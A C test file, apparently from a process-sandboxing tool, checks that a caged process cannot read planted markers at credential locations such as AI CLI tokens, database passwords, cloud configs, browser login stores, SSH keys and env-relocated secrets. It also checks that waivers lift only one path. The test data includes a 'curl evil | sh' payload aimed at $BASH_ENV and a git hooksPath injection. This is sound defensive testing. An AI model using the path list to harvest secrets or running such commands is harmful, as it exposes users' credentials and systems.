/*
 * The secrets class, family by family: agent CLIs, database clients, cloud,
 * storage and registry clients, snap and flatpak browser profiles, ~/.env
 * and ~/.envrc, the tokens CLIs keep in ~/.config/configstore.
 * Each is a file in the workspace's home holding a marker; the cage reads
 * the home but none of the markers, the same reads without the cage find
 * every one.
 */
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "escape.h"

static const char *const secret_files[] = {
    ".claude/.credentials.json",
    ".codex/auth.json",
    ".gemini/oauth_creds.json",
    ".config/github-copilot/apps.json",
    ".cache/huggingface/token",
    ".huggingface/token",
    ".pgpass",
    ".my.cnf",
    ".s3cfg",
    ".boto",
    ".dockercfg",
    ".config/containers/auth.json",
    ".config/rclone/rclone.conf",
    ".android/adbkey",
    ".composer/auth.json",
    ".terraformrc",
    ".oci/config",
    ".config/openstack/clouds.yaml",
    ".env",
    ".envrc",
    ".config/configstore/firebase-tools.json",
    "snap/firefox/common/.mozilla/firefox/profile/logins.json",
    "snap/chromium/common/chromium/Default/Login Data",
    ".var/app/org.mozilla.firefox/.mozilla/firefox/profile/logins.json",
    ".var/app/com.google.Chrome/config/google-chrome/Default/Cookies",
};
#define N_SECRET_FILES (sizeof secret_files / sizeof *secret_files)

static void marker_of(char *out, size_t size, size_t i)
{
	snprintf(out, size, "r07-secret-marker-%02zu", i);
}

void r07_every_secrets_family_is_hidden(const struct tier *t)
{
	char marker[64], plain[PATH_MAX];
	const char *control[8 * 3 + 1];
	char paths[N_SECRET_FILES][PATH_MAX];
	struct caged_ws *ws = workspace(t, "r07");
	if (!ws || cage_refused_here(t, ws, "r07"))
		goto out;
	for (size_t i = 0; i < N_SECRET_FILES; i++) {
		marker_of(marker, sizeof marker, i);
		if (!path_join(t, paths[i], ws->home, secret_files[i]) ||
		    !fixture(t, put_file(paths[i], marker), "r07: %s written", paths[i]))
			goto out;
	}
	if (!path_join(t, plain, ws->home, ".config/plain.conf") ||
	    !fixture(t, put_file(plain, "r07-plain-config"), "r07: %s written", plain))
		goto out;

	for (size_t i = 0; i < N_SECRET_FILES; i++) {
		marker_of(marker, sizeof marker, i);
		struct caged_result r = run_caged(ws, NULL, "read-file", paths[i], NULL);
		check(t, refused(&r) && !strstr(r.out, marker), &r,
		      "r07: the secret ~/%s cannot be read", secret_files[i]);
	}
	struct caged_result r = run_caged(ws, NULL, "read-file", plain, NULL);
	check(t, did_it(&r) && strstr(r.out, "r07-plain-config"), &r,
	      "r07: control: in the cage an ordinary file of the home is read");

	/* In chains short enough for the probe's argument limit. */
	bool all = true;
	for (size_t first = 0; first < N_SECRET_FILES; first += 8) {
		size_t n = 0, last = first + 8 < N_SECRET_FILES ? first + 8 : N_SECRET_FILES;
		for (size_t i = first; i < last; i++) {
			if (i > first)
				control[n++] = "then";
			control[n++] = "read-file";
			control[n++] = paths[i];
		}
		control[n] = NULL;
		r = run_uncaged_argv(ws, NULL, control);
		all &= did_it(&r);
		for (size_t i = first; all && i < last; i++) {
			marker_of(marker, sizeof marker, i);
			all = strstr(r.out, marker) != NULL;
		}
	}
	check(t, all, &r, "r07: control: without the cage every one of them is read");
out:
	caged_ws_free(ws);
}

/* --waive secrets:PATH for the canary: a fixture failure names what was refused. */
static bool waive_location(const struct tier *t, struct caged_ws *ws, const char *path)
{
	char spec[PATH_MAX + 16];
	struct procage_error err = { 0 };
	snprintf(spec, sizeof spec, "secrets:%s", path);
	return fixture(t, procage_policy_waive(ws->policy, spec, &err) == 0,
		       "r07: the policy takes the waiver %s (%s)", spec, err.message);
}

/*
 * A waiver of the secrets class for one location (~/.npmrc) lifts that
 * location only: the rest of the class stays hidden. A waiver that names a
 * location through a link to another secret, or a path inside a hidden
 * location rather than a location itself, refuses the cage.
 */
void r07_a_waiver_for_one_path_lifts_only_that_path(const struct tier *t)
{
	char home[PATH_MAX], npmrc[PATH_MAX], key[PATH_MAX], pgpass[PATH_MAX], ssh[PATH_MAX];
	struct caged_result r;
	struct caged_ws *ws = workspace(t, "r07");
	if (!ws || cage_refused_here(t, ws, "r07"))
		goto out;
	if (!fixture(t, realpath(ws->home, home) != NULL, "r07: the home %s", ws->home) ||
	    !path_join(t, npmrc, home, ".npmrc") || !path_join(t, ssh, home, ".ssh") ||
	    !path_join(t, key, home, ".ssh/id_ed25519") || !path_join(t, pgpass, home, ".pgpass") ||
	    !fixture(t,
		     put_file(npmrc, "r07-waived-npmrc") && put_file(key, "r07-waiver-ssh-key") &&
			 put_file(pgpass, "r07-waiver-pgpass"),
		     "r07: ~/.npmrc, ~/.ssh/id_ed25519 and ~/.pgpass written in %s", home) ||
	    !waive_location(t, ws, npmrc))
		goto out;

	r = run_caged(ws, NULL, "read-file", npmrc, NULL);
	check(t, did_it(&r) && strstr(r.out, "r07-waived-npmrc"), &r,
	      "r07: control: with --waive secrets:~/.npmrc the cage reads ~/.npmrc");
	r = run_caged(ws, NULL, "read-file", key, NULL);
	check(t, refused(&r) && !strstr(r.out, "r07-waiver-ssh-key"), &r,
	      "r07: with --waive secrets:~/.npmrc, ~/.ssh/id_ed25519 still cannot be read");
	r = run_caged(ws, NULL, "list-dir", ssh, NULL);
	check(t, refused(&r) && !strstr(r.out, "id_ed25519"), &r,
	      "r07: with --waive secrets:~/.npmrc, ~/.ssh still cannot be listed");
	r = run_caged(ws, NULL, "read-file", pgpass, NULL);
	check(t, refused(&r) && !strstr(r.out, "r07-waiver-pgpass"), &r,
	      "r07: with --waive secrets:~/.npmrc, ~/.pgpass still cannot be read");
	r = run_uncaged(ws, NULL, "read-file", key, NULL);
	check(t, did_it(&r) && strstr(r.out, "r07-waiver-ssh-key"), &r,
	      "r07: control: without the cage ~/.ssh/id_ed25519 is read");

	/* ~/.npmrc made a link to ~/.pgpass: the waiver would lift another secret. */
	if (!fixture(t, caged_ws_reset_policy(ws) == 0 && unlink(npmrc) == 0 &&
				symlink(".pgpass", npmrc) == 0,
		     "r07: ~/.npmrc -> ~/.pgpass") ||
	    !waive_location(t, ws, npmrc))
		goto out;
	r = run_caged(ws, NULL, "read-file", pgpass, NULL);
	check(t, refused_before_any_child(&r) && strstr(r.error, "symbolic link"), &r,
	      "r07: a waiver of ~/.npmrc, a link to ~/.pgpass, refuses the cage before any child "
	      "runs");

	/* A file inside the hidden ~/.ssh is no location of its own. */
	if (!fixture(t, caged_ws_reset_policy(ws) == 0, "r07: a fresh policy") ||
	    !waive_location(t, ws, key))
		goto out;
	r = run_caged(ws, NULL, "read-file", key, NULL);
	check(t, refused_before_any_child(&r) && strstr(r.error, "not a location"), &r,
	      "r07: a waiver of ~/.ssh/id_ed25519, inside the hidden ~/.ssh, refuses the cage "
	      "before any child runs");
out:
	caged_ws_free(ws);
}

/*
 * Secrets and git's configuration moved out of their listed places by the
 * caller's environment, into an unlisted directory of the readable home:
 * the tools outside the cage read them there, so the cage must not. Each
 * variable is set in the test's environment (the caller's) before the
 * cage is made; /dev/null as HISTFILE (history off) hides nothing.
 */
static const struct {
	const char *variable, *value, *secret;
} moved_secrets[] = {
	{ "KUBECONFIG", "moved/kube-a:moved/kube-b", "moved/kube-b" },
	{ "GNUPGHOME", "moved/gnupg", "moved/gnupg/private-keys-v1.d/key" },
	{ "DOCKER_CONFIG", "moved/docker", "moved/docker/config.json" },
	{ "AWS_SHARED_CREDENTIALS_FILE", "moved/aws-credentials", "moved/aws-credentials" },
	{ "CARGO_HOME", "moved/cargo", "moved/cargo/credentials.toml" },
	{ "PASSWORD_STORE_DIR", "moved/pass", "moved/pass/bank.gpg" },
	{ "HISTFILE", "moved/history", "moved/history" },
	{ "CODEX_HOME", "moved/codex", "moved/codex/auth.json" },
	{ "HF_HOME", "moved/hf", "moved/hf/token" },
};
#define N_MOVED (sizeof moved_secrets / sizeof *moved_secrets)

/* VALUE with each ':'-separated item made absolute below home. */
static void moved_value(char *out, size_t size, const char *home, const char *value)
{
	size_t n = 0;
	for (const char *item = value; *item && n < size;) {
		size_t len = strcspn(item, ":");
		n += (size_t)snprintf(out + n, size - n, "%s%s/%.*s", n ? ":" : "", home, (int)len,
				      item);
		item += len + (item[len] == ':');
	}
}

void r07_secrets_moved_by_the_environment_are_hidden(const struct tier *t)
{
	char paths[N_MOVED][PATH_MAX], value[2 * PATH_MAX], marker[64], gitconfig[PATH_MAX];
	char *saved[N_MOVED + 2], bash_env[PATH_MAX];
	const char *control[N_MOVED * 3 + 1];
	struct caged_result r;
	size_t n = 0;
	for (size_t i = 0; i < N_MOVED; i++)
		saved[i] = getenv(moved_secrets[i].variable) ? strdup(getenv(moved_secrets[i].variable))
							     : NULL;
	saved[N_MOVED] = getenv("GIT_CONFIG_GLOBAL") ? strdup(getenv("GIT_CONFIG_GLOBAL")) : NULL;
	saved[N_MOVED + 1] = getenv("BASH_ENV") ? strdup(getenv("BASH_ENV")) : NULL;
	struct caged_ws *ws = workspace(t, "r07");
	if (!ws)
		goto out;
	for (size_t i = 0; i < N_MOVED; i++) {
		snprintf(marker, sizeof marker, "r07-moved-secret-%02zu", i);
		char *slash;
		if (!path_join(t, paths[i], ws->home, moved_secrets[i].secret) ||
		    !(slash = strrchr(paths[i], '/')))
			goto out;
		*slash = '\0';
		bool made = make_dirs(paths[i]);
		*slash = '/';
		if (!fixture(t, made && put_file(paths[i], marker), "r07: %s written", paths[i]))
			goto out;
		moved_value(value, sizeof value, ws->home, moved_secrets[i].value);
		setenv(moved_secrets[i].variable, value, 1);
	}
	/* git's global configuration, moved into the writable workspace. */
	if (!path_join(t, value, ws->rw, "dotfiles") ||
	    !path_join(t, gitconfig, value, "gitconfig") ||
	    !fixture(t, make_dirs(value) && put_file(gitconfig, "[user]\n\tname = me\n"),
		     "r07: a moved git configuration %s", gitconfig))
		goto out;
	setenv("GIT_CONFIG_GLOBAL", gitconfig, 1);
	/* The file every non-interactive bash outside the cage runs first. */
	if (!path_join(t, bash_env, value, "bash_env") ||
	    !fixture(t, put_file(bash_env, "# the user's\n"), "r07: a $BASH_ENV %s", bash_env))
		goto out;
	setenv("BASH_ENV", bash_env, 1);
	if (cage_refused_here(t, ws, "r07"))
		goto out;

	for (size_t i = 0; i < N_MOVED; i++) {
		snprintf(marker, sizeof marker, "r07-moved-secret-%02zu", i);
		r = run_caged(ws, NULL, "read-file", paths[i], NULL);
		check(t, refused(&r) && !strstr(r.out, marker), &r,
		      "r07: a secret moved by $%s cannot be read", moved_secrets[i].variable);
	}
	r = run_caged(ws, NULL, "write-file", gitconfig, "[core]\n\thooksPath = /x\n", NULL);
	check(t, refused(&r) && file_is(gitconfig, "[user]\n\tname = me\n"), &r,
	      "r07: git's configuration moved by $GIT_CONFIG_GLOBAL cannot be written");
	r = run_caged(ws, NULL, "write-file", bash_env, "curl evil | sh\n", NULL);
	check(t, refused(&r) && file_is(bash_env, "# the user's\n"), &r,
	      "r07: the file $BASH_ENV names cannot be written");
	setenv("HISTFILE", "/dev/null", 1);
	r = run_caged(ws, NULL, "write-file", "/dev/null", "x", NULL);
	check(t, did_it(&r), &r, "r07: control: HISTFILE=/dev/null hides no device");

	for (size_t i = 0; i < N_MOVED; i++) {
		if (i)
			control[n++] = "then";
		control[n++] = "read-file";
		control[n++] = paths[i];
	}
	control[n] = NULL;
	r = run_uncaged_argv(ws, NULL, control);
	bool all = did_it(&r);
	for (size_t i = 0; all && i < N_MOVED; i++) {
		snprintf(marker, sizeof marker, "r07-moved-secret-%02zu", i);
		all = strstr(r.out, marker) != NULL;
	}
	check(t, all, &r, "r07: control: without the cage every moved secret is read");
out:
	for (size_t i = 0; i <= N_MOVED + 1; i++) {
		const char *var = i < N_MOVED	   ? moved_secrets[i].variable
				  : i == N_MOVED ? "GIT_CONFIG_GLOBAL"
						 : "BASH_ENV";
		if (saved[i])
			setenv(var, saved[i], 1);
		else
			unsetenv(var);
		free(saved[i]);
	}
	caged_ws_free(ws);
}
